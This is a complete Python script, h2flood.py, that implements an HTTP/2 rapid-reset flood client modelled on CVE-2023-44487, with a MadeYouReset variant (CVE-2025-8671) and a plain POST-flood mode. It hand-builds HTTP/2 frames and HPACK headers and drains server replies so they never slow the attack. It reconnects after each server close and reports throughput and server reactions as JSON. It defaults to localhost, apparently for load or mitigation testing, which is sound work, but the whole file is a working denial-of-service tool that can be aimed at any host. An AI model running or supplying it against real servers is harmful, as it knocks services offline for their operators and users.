#!/usr/bin/env python3
"""h2flood.py — an HTTP/2 rapid-reset client (CVE-2023-44487's pattern).

It speaks h2c with prior knowledge over one TCP connection at a time,
with nothing but the Python standard library: the connection preface, a
SETTINGS frame that opens the flow-control windows wide, then, as fast as
the socket takes them, streams of

    HEADERS (POST PATH, HPACK literals without indexing, no Huffman)
    DATA    (a form body, END_STREAM: the request is complete, so the
             server's handler runs)
    RST_STREAM (CANCEL) — or, with --variant window0, a WINDOW_UPDATE of
             increment 0 on the stream, which makes the server reset the
             stream itself (MadeYouReset, CVE-2025-8671); with --variant
             none, nothing: the streams stay open (a plain POST flood,
             the comparison for the other two)

A second thread reads and discards everything the server sends (it
answers the server's SETTINGS with an ACK and counts GOAWAY and
RST_STREAM frames), so the server's output never throttles the attack.
When the server closes the connection, the client counts it and opens
another (unless --once), until --seconds have passed or --streams streams
were sent.

Command line (prints one JSON object when done):

    h2flood.py --host 127.0.0.1 --port 8080 [--path /comments]
               [--seconds 5] [--streams 0] [--source 127.0.0.2]
               [--body 'article=1&comment=x'] [--variant rst|window0|none]
               [--batch 100] [--once]

    --seconds   how long to attack (default 5)
    --streams   stop after this many streams (0: no limit, the default)
    --source    the local address to connect from (default: any); the
                whole of 127.0.0.0/8 is loopback on Linux, so 127.0.0.2
                is another client for a server on 127.0.0.1
    --body      the request body, sent as
                application/x-www-form-urlencoded
    --variant   rst (the client resets each stream), window0 (the server
                is made to reset it) or none (no reset)
    --batch     streams written with one send (default 100)
    --once      stop when the server closes the first connection

The JSON result: streams (written to the socket in all: streams written
after the server stopped reading are counted too), seconds (elapsed),
streams_per_s, connections (opened), closed_by_server (connections the
server ended: EOF, reset, or a refused write), first_close_s (seconds
from the first connection's start to the server's first close, or
null), goaway, rst_received, bytes_received, connect_errors
(connections that could not be opened).

As a module: flood(host, port, ...) takes the same options as keyword
arguments and returns the same result as a dict.  For streams made by
hand on one connection: Connection(host, port, source, timeout) (its
send(bytes), closed event, close()), and stream_frames(stream_id,
request_block(authority, path, len(body)), body, variant).
"""
import argparse
import json
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x7, 0x8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
MAX_WINDOW = 2 ** 31 - 1
VARIANTS = ("rst", "window0", "none")


def frame(kind, flags, stream, payload=b""):
    """One HTTP/2 frame: the 9-byte header and its payload."""
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, kind, flags, stream) + payload


def hpack_int(value, prefix_bits, first_byte=0):
    """An HPACK integer with an N-bit prefix (RFC 7541, 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = bytearray([first_byte | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name, value):
    """A literal header field without indexing, new name, no Huffman
    (RFC 7541, 6.2.2): the server's dynamic table is never touched."""
    name, value = name.encode(), value.encode()
    return (b"\x00" + hpack_int(len(name), 7) + name +
            hpack_int(len(value), 7) + value)


def request_block(authority, path, body_len):
    """The header block of a POST of a form body."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path),
              (":authority", authority),
              ("content-type", "application/x-www-form-urlencoded"),
              ("content-length", str(body_len))]
    return b"".join(hpack_literal(n, v) for n, v in fields)


def stream_frames(stream, block, body, variant):
    """The frames of one attacking stream."""
    out = frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body)
    if variant == "window0":
        return out + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
    if variant == "none":
        return out
    return out + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


class Connection:
    """One h2c connection and the thread that drains it."""

    def __init__(self, host, port, source, timeout):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if source:
            self.sock.bind((source, 0))
        self.sock.settimeout(timeout)
        self.sock.connect((host, port))
        self.send_lock = threading.Lock()
        self.closed = threading.Event()   # the server ended it
        self.closed_at = None             # time.monotonic() when it was seen
        self.goaway = self.rst_received = self.bytes_received = 0
        settings = struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, MAX_WINDOW)
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings) +
                  frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW - 65535)))
        self.reader = threading.Thread(target=self._drain, daemon=True)
        self.reader.start()

    def send(self, data):
        """Write data whole; False when the server has closed the connection."""
        try:
            with self.send_lock:
                self.sock.sendall(data)
            return True
        except OSError:
            self._set_closed()
            return False

    def _set_closed(self):
        if self.closed_at is None:
            self.closed_at = time.monotonic()
        self.closed.set()

    def _drain(self):
        """Read until EOF: ACK the server's SETTINGS, count GOAWAY and
        RST_STREAM, discard the rest."""
        pending = b""
        try:
            while True:
                try:
                    data = self.sock.recv(1 << 16)
                except socket.timeout:
                    continue
                if not data:
                    break
                self.bytes_received += len(data)
                pending += data
                while len(pending) >= 9:
                    n = int.from_bytes(pending[:3], "big")
                    if len(pending) < 9 + n:
                        break
                    kind, flags = pending[3], pending[4]
                    pending = pending[9 + n:]
                    if kind == SETTINGS and not flags & ACK:
                        self.send(frame(SETTINGS, ACK, 0))
                    elif kind == GOAWAY:
                        self.goaway += 1
                    elif kind == RST_STREAM:
                        self.rst_received += 1
        except OSError:
            pass
        self._set_closed()

    def close(self):
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        self.reader.join(timeout=5)


def flood(host="127.0.0.1", port=8080, path="/comments", seconds=5.0, streams=0,
          source=None, body="article=1&comment=rapid+reset&author=x&email=x%40example.org",
          variant="rst", batch=100, once=False):
    """Attack host:port for seconds (or until streams were sent); return the
    result described in the module's docstring."""
    if variant not in VARIANTS:
        raise ValueError("variant must be one of " + ", ".join(VARIANTS))
    body_bytes = body.encode()
    block = request_block(f"{host}:{port}", path, len(body_bytes))
    result = {"streams": 0, "seconds": 0.0, "streams_per_s": 0.0, "connections": 0,
              "closed_by_server": 0, "first_close_s": None, "goaway": 0, "rst_received": 0,
              "bytes_received": 0, "connect_errors": 0}
    t0 = time.monotonic()
    deadline = t0 + seconds

    def more():
        return time.monotonic() < deadline and (streams == 0 or result["streams"] < streams)

    while more():
        try:
            conn = Connection(host, port, source, timeout=1.0)
        except OSError:
            result["connect_errors"] += 1
            time.sleep(0.01)
            continue
        result["connections"] += 1
        stream = 1
        while more() and not conn.closed.is_set() and stream < MAX_WINDOW - 2 * batch:
            n = batch if streams == 0 else min(batch, streams - result["streams"])
            chunk = b"".join(stream_frames(stream + 2 * i, block, body_bytes, variant)
                             for i in range(n))
            if not conn.send(chunk):
                break
            stream += 2 * n
            result["streams"] += n
        # a close the server made, not ours: wait a moment for the reader
        # to see an EOF that raced with our last write
        conn.closed.wait(0.05)
        if conn.closed.is_set():
            result["closed_by_server"] += 1
            if result["first_close_s"] is None:
                result["first_close_s"] = round(conn.closed_at - t0, 3)
        conn.close()
        result["goaway"] += conn.goaway
        result["rst_received"] += conn.rst_received
        result["bytes_received"] += conn.bytes_received
        if once and result["closed_by_server"]:
            break
    result["seconds"] = round(time.monotonic() - t0, 3)
    result["streams_per_s"] = round(result["streams"] / max(result["seconds"], 1e-9), 1)
    return result


def main(argv=None):
    p = argparse.ArgumentParser(description="HTTP/2 rapid-reset client (h2c, prior knowledge)")
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--path", default="/comments")
    p.add_argument("--seconds", type=float, default=5.0)
    p.add_argument("--streams", type=int, default=0)
    p.add_argument("--source", default=None)
    p.add_argument("--body", default="article=1&comment=rapid+reset&author=x&email=x%40example.org")
    p.add_argument("--variant", choices=VARIANTS, default="rst")
    p.add_argument("--batch", type=int, default=100)
    p.add_argument("--once", action="store_true")
    a = p.parse_args(argv)
    result = flood(a.host, a.port, a.path, a.seconds, a.streams, a.source, a.body,
                   a.variant, a.batch, a.once)
    json.dump(result, sys.stdout)
    sys.stdout.write("\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
